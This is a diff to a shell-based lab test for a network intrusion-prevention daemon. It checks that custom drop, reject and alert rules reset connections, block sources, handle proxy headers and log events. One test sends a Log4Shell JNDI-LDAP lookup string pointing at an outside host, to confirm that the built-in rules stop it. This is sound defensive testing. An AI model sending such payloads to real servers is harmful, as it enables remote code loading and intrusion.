@@ -10,15 +10,22 @@ lab_listen "$work/www" 80 6379 || not_ok "the server listens"
 cat >"$work/own.rules" <<'END'
 alert tcp any any -> any 80 (msg:"a word"; content:"curious-word"; sid:100;)
 drop tcp any any -> any 80 (msg:"a bad word"; flow:to_server,established; http.uri; content:"/forbidden-word"; nocase; sid:101; rev:3; classtype:web-application-attack; reference:url,example.org;)
-reject tcp any any -> any 80 (msg:"an attack"; flow:to_server,established; content:"attack-word"; sid:102;)
+reject tcp any any -> any 80 (msg:"an attack"; flow:to_server,established; http.header; content:"attack-word"; sid:102;)
 drop udp any any -> any 5353 (msg:"a datagram"; content:"udp-word"; sid:103;)
 alert tcp any any -> any 80 (msg:"an expression"; content:"pcre-word"; pcre:"/x+/"; sid:104;)
 END
 printf 'mode = enforce\nrules {\nbuiltin = false\n}\nservices = { "udp/5353" }\n' >"$config"
 
-# ask FROM PATH: does the page come?
+# ask FROM PATH [OPTION...]: does the page come?
 ask() {
-	lab_in attacker curl -gs -o /dev/null -m "$(scaled 1)" --interface "$1" "http://$target4$2"
+	local from=$1 path=$2
+	shift 2
+	lab_in attacker curl -gs -o /dev/null -m "$(scaled 5)" --interface "$from" "$@" "http://$target4$path"
+}
+# The connection is reset, and nobody waits.
+is_reset() {
+	ask "$@"
+	[ $? = 56 ]
 }
 hits() {
 	sw_json ".rules[] | select(.signature_id == $1) | .hits" rules stats
@@ -65,26 +72,53 @@ check "and is told" eventually 5 is_told 100
 is "as an alert" "$(event_of 100 .alert.action)" alert
 is "with the bytes that matched" "$(event_of 100 .alert.matched)" curious-word
 is "and the flow" "$(event_of 100 '.src_ip + " " + (.dest_port | tostring)')" "$source4 80"
-check "drop takes the packet away" not ask "$source4" /Forbidden-Word
-check "percent signs hide nothing" not ask "$source4" /%46orbidden%2dword
+check "drop ends the connection" is_reset "$source4" /Forbidden-Word
+is "the server's, too" "$(lab_in server ss -Htn state established "dst $source4")" ""
+check "percent signs hide nothing" is_reset "$source4" /%46orbidden%2dword
 check "its source is not blocked" ask "$source4" /
 check "it is told" eventually 5 is_told 101
 is "as a drop" "$(event_of 101 '.alert.action + " " + .alert.signature + " " + .alert.category')" \
 	"drop a bad word web-application-attack"
-check "reject takes the packet away" not ask "$source4" '/?q=attack-word'
+check "reject ends the connection" not ask "$source4" / -H 'X-A: attack-word'
 check "and blocks its source, for open connections too" eventually 5 not ask "$source4" /
 check "which is told" eventually 5 is_told 102
 is "as a block" "$(event_of 102 .event_type)" block
 is "that is proven" "$(event_of 102 .new_only)" false
 sw show "$source4" >"$work/show"
 check "show says why" grep -q 'an attack.*signature 102' "$work/show"
-# What is dropped, TCP sends again.
-check "hits are counted" test "$(hits 101)" -ge 2 -a "$(hits 102)" -ge 1
+is "what TCP sends again is no hit" "$(hits 101) $(hits 102)" "2 1"
 expect 0 "stats" sw stats
 says "stats name the rules that were hit" '101 +[0-9]+ +[0-9]+ .*a bad word'
 expect 0 "rules stats" sw rules stats
 says "most hits first" 'SID +HITS +DROPPED +TRIED'
 check "the visitor is not concerned" fetch visitor "$visitor4" "http://$site4/"
+
+# Who speaks for many loses the connection only.
+new_self
+check "an attack through a proxy is stopped" is_reset "$source4" / \
+	-H 'X-A: attack-word' -H 'X-Forwarded-For: 192.0.2.77'
+check "the proxy is not blocked" ask "$source4" /
+is "whom it came from is told" "$(event_of 102 '.client.address + " " + (.client.believed | tostring)')" \
+	"192.0.2.77 false"
+new_self
+sw config set proxies "$source4" -q
+check "nor is one of the configuration" is_reset "$source4" / -H 'X-A: attack-word' -H 'X-Real-IP: 192.0.2.78'
+is "whose word is believed" "$(event_of 102 '.client.address + " " + (.client.believed | tostring)')" \
+	"192.0.2.78 true"
+sw config unset proxies -q
+new_self
+sw allow "$source4" -q
+check "who is allowed is stopped all the same" is_reset "$source4" / -H 'X-A: attack-word'
+check "but not blocked" ask "$source4" /
+sw unallow "$source4" -q
+
+# Without a daemon the segment itself goes on as a reset, and the peer's next
+# one gets the kernel's.
+daemon_end
+new_self
+check "without a daemon it ends as well" is_reset "$source4" /forbidden-word
+is "at the server, too" "$(lab_in server ss -Htn state established "dst $source4")" ""
+daemon_start "the daemon runs again"
 
 # A datagram's source may be forged: it is dropped, nobody is blocked.
 new_self
@@ -128,9 +162,9 @@ is "nothing passes while rules are replaced ($asked requests)" "$passed" 0
 
 sw mode detect -q
 new_self
-check "in detect mode everything passes" ask "$source4" '/forbidden-word?q=attack-word'
+check "in detect mode everything passes" ask "$source4" /forbidden-word -H 'X-A: attack-word'
 check "and is told" eventually 5 is_told 102
-is "as what would be" "$(event_of 101 .alert.action)" would-drop
+is "as what would be" "$(event_of 102 .event_type)" would-block
 sw mode enforce -q
 printf 'mode = enforce\nrules {\nbuiltin = true\n}\n' >"$config"
 expect 0 "reload" sw reload
@@ -142,7 +176,7 @@ refused 1 "reload refuses a file that is not there" '/nowhere.rules' sw reload
 check "the rules in force stay" test "$(sw_json '.rules | length' rules list)" -gt 100
 new_self
 check "a page comes with the built-in rules" ask "$source4" /
-check "Log4Shell does not" not ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
+check "Log4Shell does not" not ask "$source4" / -A '${jndi:ldap://198.51.100.9/a}'
 sw mode enforce -q
 check "its source is blocked" eventually 5 not ask "$source4" /
 daemon_end
